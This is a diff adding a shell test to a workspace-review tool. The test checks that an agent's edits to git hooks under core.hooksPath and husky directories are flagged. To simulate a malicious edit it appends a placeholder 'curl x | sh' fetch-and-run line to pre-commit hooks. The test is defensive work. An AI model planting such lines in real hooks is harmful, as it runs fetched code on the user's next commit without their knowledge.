@@ -1639,3 +1639,26 @@ mkdir -p "$W/.git/modules/lib/hooks" && printf '[core]\n' > "$W/.git/modules/lib
 eq "$(jq -r '[.changeset.warnings[] | select(.warning != "exec") | "\(.path)=\(.warning)"] | sort | join(",")' "$T/warn3.json")" \
     ".git/config.worktree=git_config,.git/modules/lib/config=git_config,.git/modules/lib/hooks/pre-commit=git_hook,a/l2=symlink_outside,a/l3=symlink_outside" \
     "review warns of a submodule's hook and config, config.worktree, and symlinks that escape through a symlink or /WS/.."
+
+# Hooks git runs from core.hooksPath (a tracked '.githooks/', husky's
+# '.husky/' through '.husky/_') were only an exec warning at most: an
+# agent's edit of an existing '.githooks/pre-commit' (no new bit) was not
+# warned at all, and runs on the user's next git commit.
+if command -v git >/dev/null; then
+    W=$T/wswarn4
+    mkdir -p "$W/.githooks" "$W/.husky/_" "$W/sub" && (cd "$W" && git init -q . && git config core.hooksPath .githooks) &&
+        printf '#!/bin/sh\n' > "$W/.githooks/pre-commit" && chmod +x "$W/.githooks/pre-commit" &&
+        printf '#!/bin/sh\n' > "$W/.husky/pre-commit"
+    (cd "$W" && "$P" run --stage auto -- sh -c 'echo "curl x | sh" >> .githooks/pre-commit && echo "curl x | sh" >> .husky/pre-commit &&
+        echo x > .githooks/lib.sh && echo x > sub/other && echo x > .husky/_/h') >/dev/null 2>&1
+    (cd "$W" && "$P" status --review --json) > "$T/warn4.json"
+    git -C "$W" config core.hooksPath .husky/_
+    (cd "$W" && "$P" status --review --json) > "$T/warn5.json"
+    git -C "$W" config --unset core.hooksPath
+    (cd "$W" && "$P" status --review --json) > "$T/warn6.json"
+    eq "$(for f in warn4 warn5 warn6; do jq -r '[.changeset.warnings[] | select(.warning == "git_hook") | .path] | sort | join(",")' "$T/$f.json"; done | tr '\n' ' ')" \
+        ".githooks/lib.sh,.githooks/pre-commit .husky/_/h,.husky/pre-commit  " \
+        "review warns of changes in the core.hooksPath directory (and husky's hooks around '.husky/_'), as git names it, and nowhere else"
+else
+    skip "review warns of changes in the core.hooksPath directory" "git is not installed"
+fi
